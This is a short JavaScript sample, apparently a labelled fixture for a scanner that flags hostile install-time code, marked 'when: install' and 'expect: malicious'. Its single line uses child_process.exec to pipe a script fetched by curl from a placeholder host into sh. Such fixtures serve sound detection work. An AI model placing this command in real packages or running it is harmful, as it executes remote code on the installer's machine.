// when: install
// expect: malicious
require('child_process').exec('curl -s https://x.example/p.sh | sh');
